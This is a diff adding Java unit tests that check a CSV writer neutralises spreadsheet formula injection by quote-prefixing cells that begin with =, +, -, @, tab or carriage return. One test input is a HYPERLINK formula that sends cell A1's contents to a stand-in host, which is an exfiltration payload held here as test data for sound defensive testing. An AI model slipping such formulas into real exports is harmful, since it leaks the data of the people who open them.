@@ -47,4 +47,52 @@ class CsvTest {
     assertThat(rows.get(0).get("b")).isEqualTo("say \"hi\"");
     assertThat(rows.get(1).get("a")).isNull();
   }
+
+  @Test
+  void aTextCellThatASpreadsheetWouldRunIsPrefixedWithAQuoteAndQuoted() {
+    assertThat(Csv.cell("=1+2")).isEqualTo("\"'=1+2\"");
+    assertThat(Csv.cell("+41 44 000")).isEqualTo("\"'+41 44 000\"");
+    assertThat(Csv.cell("-2+3")).isEqualTo("\"'-2+3\"");
+    assertThat(Csv.cell("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
+    assertThat(Csv.cell("\t=1")).isEqualTo("\"'\t=1\"");
+    assertThat(Csv.cell("\r=1")).isEqualTo("\"'\r=1\"");
+    assertThat(Csv.cell("=HYPERLINK(\"http://x/?a=\"&A1,\"go\")"))
+        .isEqualTo("\"'=HYPERLINK(\"\"http://x/?a=\"\"&A1,\"\"go\"\")\"");
+  }
+
+  @Test
+  void aFormulaCharacterAfterTheFirstAndOrdinaryTextAreLeftAlone() {
+    assertThat(Csv.cell("SN-0001")).isEqualTo("SN-0001");
+    assertThat(Csv.cell("a=b")).isEqualTo("a=b");
+    assertThat(Csv.cell(" =1+2")).isEqualTo(" =1+2");
+    assertThat(Csv.cell("'quoted already")).isEqualTo("'quoted already");
+    assertThat(Csv.cell("")).isEmpty();
+    assertThat(Csv.cell(null)).isEmpty();
+  }
+
+  @Test
+  void numbersAreDataAndAreWrittenAsTheyAreEvenWhenNegative() {
+    assertThat(Csv.cell(-5)).isEqualTo("-5");
+    assertThat(Csv.cell(-12L)).isEqualTo("-12");
+    assertThat(Csv.cell(new java.math.BigDecimal("-1.50"))).isEqualTo("-1.50");
+    assertThat(Csv.cell(new java.math.BigDecimal("1E+3"))).isEqualTo("1000");
+    assertThat(Csv.cell(true)).isEqualTo("true");
+    assertThat(Csv.cell(java.time.LocalDate.of(2026, 11, 27))).isEqualTo("2026-11-27");
+  }
+
+  @Test
+  void aSemicolonOrTabInsideTextIsQuotedSoNoLocaleSplitsItIntoACellOfItsOwn() {
+    assertThat(Csv.cell("a;=1+2")).isEqualTo("\"a;=1+2\"");
+    assertThat(Csv.cell("a\t=1+2")).isEqualTo("\"a\t=1+2\"");
+  }
+
+  @Test
+  void aNeutralisedCellReadsBackWithItsQuotePrefix() {
+    String text =
+        Csv.write(List.of("order", "qty"), List.of(Arrays.asList("=HYPERLINK(\"x\",\"y\")", -3)));
+    assertThat(text).isEqualTo("order,qty\r\n\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\",-3\r\n");
+    List<Csv.Row> rows = Csv.parse(text, List.of("order", "qty"));
+    assertThat(rows.get(0).get("order")).isEqualTo("'=HYPERLINK(\"x\",\"y\")");
+    assertThat(rows.get(0).get("qty")).isEqualTo("-3");
+  }
 }
